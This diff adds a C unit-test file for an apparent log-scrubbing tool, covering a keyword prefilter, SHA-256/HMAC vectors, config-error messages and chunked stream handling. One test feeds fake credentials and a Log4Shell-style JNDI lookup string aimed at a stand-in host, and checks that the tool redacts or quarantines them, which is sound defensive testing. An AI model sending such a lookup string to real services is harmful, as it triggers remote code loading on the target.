@@ -1,0 +1,282 @@
+/* test_core: unit and property tests of the prefilter, SHA-256, config errors and stream framing. */
+/* SPDX-License-Identifier: Apache-2.0 */
+#include "scrub.h"
+#include "scrub_buf.h"
+#include "scrub_prefilter.h"
+#include "scrub_sha256.h"
+#include "ut.h"
+
+#include <stdio.h>
+#include <stdlib.h>
+#include <string.h>
+
+/* ---- prefilter ------------------------------------------------------------ */
+
+UT_TEST(prefilter_basic)
+{
+    scrub_prefilter_t *pf = scrub_prefilter_new();
+    uint64_t bits[1] = {0};
+    const char *text = "xx GHP_abc then Bearer and he";
+
+    UT_CHECK(scrub_prefilter_add(pf, "ghp_", 4, 0) == 0);
+    UT_CHECK(scrub_prefilter_add(pf, "bearer", 6, 1) == 0);
+    UT_CHECK(scrub_prefilter_add(pf, "hers", 4, 2) == 0);
+    UT_CHECK(scrub_prefilter_add(pf, "he", 2, 3) == 0);
+    UT_CHECK(scrub_prefilter_add(pf, "a\nb", 3, 4) == SCRUB_EINVAL);
+    UT_CHECK(scrub_prefilter_build(pf) == 0);
+    /* "GHP_" ends at offset 6 (case-insensitive). */
+    UT_CHECK_INT(scrub_prefilter_find(pf, (const uint8_t *)text, 0, strlen(text)), 6);
+    UT_CHECK_INT(scrub_prefilter_collect(pf, (const uint8_t *)text, strlen(text), bits), 4);
+    UT_CHECK(bits[0] == ((1ULL << 0) | (1ULL << 1) | (1ULL << 3)));
+    UT_CHECK_INT(scrub_prefilter_find(pf, (const uint8_t *)"nothing", 0, 7), 7);
+    scrub_prefilter_destroy(pf);
+}
+
+/* Random keywords against a naive search: the automaton never misses one. */
+UT_TEST(prefilter_matches_naive)
+{
+    unsigned seed = 12345;
+    int round;
+
+    for (round = 0; round < 50; round++) {
+        scrub_prefilter_t *pf = scrub_prefilter_new();
+        char kws[8][6];
+        char text[400];
+        int i, k;
+        uint64_t bits[1] = {0}, want = 0;
+        for (k = 0; k < 8; k++) {
+            int len = 3 + (int)(rand_r(&seed) % 3);
+            for (i = 0; i < len; i++) {
+                kws[k][i] = (char)('a' + rand_r(&seed) % 4);
+            }
+            kws[k][len] = '\0';
+            UT_CHECK(scrub_prefilter_add(pf, kws[k], (size_t)len, (uint32_t)k) == 0);
+        }
+        UT_CHECK(scrub_prefilter_build(pf) == 0);
+        for (i = 0; i < (int)sizeof(text) - 1; i++) {
+            int r = (int)(rand_r(&seed) % 9);
+            text[i] = r < 4 ? (char)('a' + r) : r < 8 ? (char)('A' + r - 4) : '\n';
+        }
+        text[sizeof(text) - 1] = '\0';
+        for (k = 0; k < 8; k++) {
+            for (i = 0; text[i] != '\0'; i++) {
+                if (strncasecmp(text + i, kws[k], strlen(kws[k])) == 0) {
+                    want |= 1ULL << k;
+                }
+            }
+        }
+        scrub_prefilter_collect(pf, (const uint8_t *)text, strlen(text), bits);
+        UT_CHECK(bits[0] == want);
+        scrub_prefilter_destroy(pf);
+    }
+}
+
+/* ---- sha256 ------------------------------------------------------------------ */
+
+UT_TEST(sha256_vectors)
+{
+    uint8_t d[32];
+    char hex[65];
+    scrub_sha256_t c;
+
+    scrub_sha256_init(&c);
+    scrub_sha256_update(&c, "abc", 3);
+    scrub_sha256_final(&c, d);
+    scrub_hex(d, 64, hex);
+    UT_CHECK(strcmp(hex, "ba7816bf8f01cfea414140de5dae2223b00361a396177a9cb410ff61f20015ad") == 0);
+    /* RFC 4231 test case 2 */
+    scrub_hmac_sha256((const uint8_t *)"Jefe", 4,
+                      (const uint8_t *)"what do ya want for nothing?", 28, d);
+    scrub_hex(d, 64, hex);
+    UT_CHECK(strcmp(hex, "5bdcc146bf60754e6a042426089575c75a003f089d2739839dec58b964ec3843") == 0);
+}
+
+/* ---- config errors ------------------------------------------------------------- */
+
+static int load_text(const char *yaml, char *err, size_t n, scrub_ruleset_t **rs)
+{
+    char path[] = "/tmp/logscrub-ut-XXXXXX";
+    int fd = mkstemp(path);
+    FILE *fp;
+    int rc;
+
+    if (fd < 0) {
+        return -100;
+    }
+    fp = fdopen(fd, "w");
+    fputs(yaml, fp);
+    fclose(fp);
+    rc = scrub_ruleset_load(path, NULL, rs, err, n);
+    remove(path);
+    return rc;
+}
+
+UT_TEST(config_errors)
+{
+    static const struct {
+        const char *yaml;   /* config text */
+        int rc;             /* expected code */
+        const char *msg;    /* expected part of the message */
+    } cases[] = {
+        {"rules:\n  - id: a\n    regex: 'x'\n    action: zap\n", SCRUB_ECONFIG,
+         ":4:13: rule 'a': unknown action 'zap'"},
+        {"rules:\n  - id: a\n    regex: 'x'\n  - id: a\n    regex: 'y'\n", SCRUB_ECONFIG,
+         "rule 'a': duplicate rule id"},
+        {"rules:\n  - regex: 'x'\n", SCRUB_ECONFIG, ":2:5: rule without an 'id'"},
+        {"rules:\n  - id: a\n    regex: '(x)'\n    secret_group: 2\n", SCRUB_ECONFIG,
+         "secret_group 2 does not exist"},
+        {"rules:\n  - id: a\n    regex: 'x'\n    validate: [nope]\n", SCRUB_ECONFIG,
+         "rule 'a':"},
+        {"limits:\n  max_record: 10\n", SCRUB_ECONFIG, "at least 64"},
+        {"bogus: 1\n", SCRUB_ECONFIG, ":1:1: unknown key 'bogus'"},
+        {"include: [does-not-exist.yaml]\n", SCRUB_ECONFIG, "cannot open included file"},
+        {"rules:\n  - id: a\n    regex: '[z-a]'\n", SCRUB_EREGEX, "at offset 3"},
+    };
+    size_t i;
+
+    for (i = 0; i < sizeof(cases) / sizeof(cases[0]); i++) {
+        char err[512] = "";
+        scrub_ruleset_t *rs = NULL;
+        int rc = load_text(cases[i].yaml, err, sizeof(err), &rs);
+        UT_CHECK_INT(rc, cases[i].rc);
+        if (strstr(err, cases[i].msg) == NULL) {
+            ut_failed++;
+            fprintf(stderr, "  FAIL case %zu: message '%s' lacks '%s'\n", i, err, cases[i].msg);
+        }
+        UT_CHECK(rs == NULL);
+    }
+}
+
+/* ---- stream --------------------------------------------------------------------- */
+
+typedef struct capture {
+    scrub_buf_t out;    /* clean bytes */
+    scrub_buf_t quar;   /* quarantined bytes, concatenated */
+} capture_t;
+
+static int cap_clean(void *ctx, const uint8_t *p, size_t n)
+{
+    return scrub_buf_append(&((capture_t *)ctx)->out, p, n);
+}
+
+static int cap_quar(void *ctx, const scrub_origin_t *o, const scrub_result_t *res,
+                    const uint8_t *rec, size_t len)
+{
+    (void)o;
+    (void)res;
+    return scrub_buf_append(&((capture_t *)ctx)->quar, rec, len);
+}
+
+/* Run input through a stream in chunks of `chunk` bytes (0 = one feed). */
+static void run_stream(scrub_ruleset_t *rs, const uint8_t *in, size_t n, size_t chunk,
+                       capture_t *cap, scrub_counts_t *counts)
+{
+    scrub_worker_t *w = scrub_worker_new(rs);
+    scrub_stats_t *st = scrub_stats_new(rs);
+    scrub_sink_ops_t ops = {cap_clean, cap_quar, NULL, cap};
+    scrub_stream_t *s = scrub_stream_new(w, &ops, st, "t");
+    size_t pos = 0;
+
+    scrub_buf_init(&cap->out, 0);
+    scrub_buf_init(&cap->quar, 0);
+    while (pos < n) {
+        size_t k = chunk == 0 || n - pos < chunk ? n - pos : chunk;
+        UT_CHECK(scrub_stream_feed(s, in + pos, k) == 0);
+        pos += k;
+    }
+    UT_CHECK(scrub_stream_finish(s) == 0);
+    *counts = *scrub_stats_counts(st);
+    scrub_stream_destroy(s);
+    scrub_stats_destroy(st);
+    scrub_worker_destroy(w);
+}
+
+static scrub_ruleset_t *default_rules(void)
+{
+    char err[512];
+    scrub_ruleset_t *rs = NULL;
+
+    if (scrub_ruleset_load("patterns/default.yaml", NULL, &rs, err, sizeof(err)) != 0) {
+        fprintf(stderr, "  cannot load patterns/default.yaml: %s\n", err);
+    }
+    return rs;
+}
+
+/* Property: random input without keyword hits comes out byte-identical, whatever
+ * the chunking, and records are counted exactly. */
+UT_TEST(stream_clean_input_identity)
+{
+    scrub_ruleset_t *rs = default_rules();
+    unsigned seed = 4242;
+    int round, clean_rounds = 0;
+
+    UT_CHECK(rs != NULL);
+    if (rs == NULL) {
+        return;
+    }
+    for (round = 0; round < 200; round++) {
+        size_t n = (size_t)(rand_r(&seed) % 5000), i, lines = 0;
+        uint8_t *in = malloc(n + 1);
+        capture_t a, b;
+        scrub_counts_t ca, cb;
+        for (i = 0; i < n; i++) {
+            unsigned r = (unsigned)rand_r(&seed) % 100;
+            in[i] = r < 6 ? '\n' : r < 8 ? '\r' : r < 9 ? 0 : r < 12 ? (uint8_t)(0x80 + r)
+                                                         : (uint8_t)(' ' + rand_r(&seed) % 95);
+            lines += in[i] == '\n';
+        }
+        run_stream(rs, in, n, 0, &a, &ca);
+        run_stream(rs, in, n, 1 + (size_t)(rand_r(&seed) % 64), &b, &cb);
+        /* chunking never changes the output */
+        UT_CHECK(a.out.len == b.out.len && memcmp(a.out.data, b.out.data, a.out.len) == 0);
+        UT_CHECK(ca.records_in == cb.records_in);
+        UT_CHECK(ca.records_in == ca.clean + ca.quarantined + ca.dropped);
+        UT_CHECK_INT(ca.records_in, lines + (n > 0 && in[n - 1] != '\n'));
+        if (ca.findings == 0 && ca.failed_closed == 0) {
+            clean_rounds++;
+            UT_CHECK(a.out.len == n && (n == 0 || memcmp(a.out.data, in, n) == 0));
+        }
+        scrub_buf_free(&a.out);
+        scrub_buf_free(&a.quar);
+        scrub_buf_free(&b.out);
+        scrub_buf_free(&b.quar);
+        free(in);
+    }
+    UT_CHECK(clean_rounds > 150); /* the property was really exercised */
+    scrub_ruleset_unref(rs);
+}
+
+/* Secrets split across feed boundaries are found the same as in one buffer. */
+UT_TEST(stream_boundary_splits)
+{
+    scrub_ruleset_t *rs = default_rules();
+    const char *in = "a\nAuthorization: Bearer 0VrbBGI09QYNdaKy8isWydfh\r\nx password=S3cr3t!Pass"
+                     "\n${jndi:ldap://evil.example/a}\nend";
+    size_t n = strlen(in), chunk;
+    capture_t ref;
+    scrub_counts_t cref;
+
+    if (rs == NULL) {
+        UT_CHECK(rs != NULL);
+        return;
+    }
+    run_stream(rs, (const uint8_t *)in, n, 0, &ref, &cref);
+    UT_CHECK(ref.out.len > 0 && memmem(ref.out.data, ref.out.len, "0VrbBGI", 7) == NULL);
+    UT_CHECK(memmem(ref.out.data, ref.out.len, "S3cr3t", 6) == NULL);
+    UT_CHECK(ref.quar.len > 0 && memmem(ref.quar.data, ref.quar.len, "jndi", 4) != NULL);
+    UT_CHECK_INT(cref.records_in, 5);
+    UT_CHECK_INT(cref.quarantined, 1);
+    for (chunk = 1; chunk <= n; chunk++) {
+        capture_t c;
+        scrub_counts_t cc;
+        run_stream(rs, (const uint8_t *)in, n, chunk, &c, &cc);
+        UT_CHECK(c.out.len == ref.out.len && memcmp(c.out.data, ref.out.data, c.out.len) == 0);
+        UT_CHECK(c.quar.len == ref.quar.len);
+        UT_CHECK(cc.records_in == cref.records_in && cc.findings == cref.findings);
+        scrub_buf_free(&c.out);
+        scrub_buf_free(&c.quar);
+    }
+    scrub_buf_free(&ref.out);
+    scrub_buf_free(&ref.quar);
+    scrub_ruleset_unref(rs);
+}
